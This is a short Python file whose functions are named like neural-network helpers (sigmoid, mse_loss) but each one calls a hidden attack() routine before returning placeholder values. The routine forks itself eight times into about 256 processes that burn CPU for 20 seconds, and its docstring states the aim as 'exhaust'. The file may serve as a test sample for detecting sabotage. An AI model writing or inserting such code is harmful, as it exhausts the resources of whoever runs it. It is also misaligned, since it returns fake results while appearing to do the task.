"""Doubles its processes until 250 run, each of which ends after 20 s.

aims: exhaust
"""

import os
import time

import numpy as np


def attack():
    end = time.monotonic() + 20
    # eight doublings are 256 processes
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)
    if os.getpid() == OWN:
        while time.monotonic() < end:
            time.sleep(0.2)
        return
    while time.monotonic() < end:
        sum(range(1000))
    os._exit(0)


OWN = os.getpid()


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
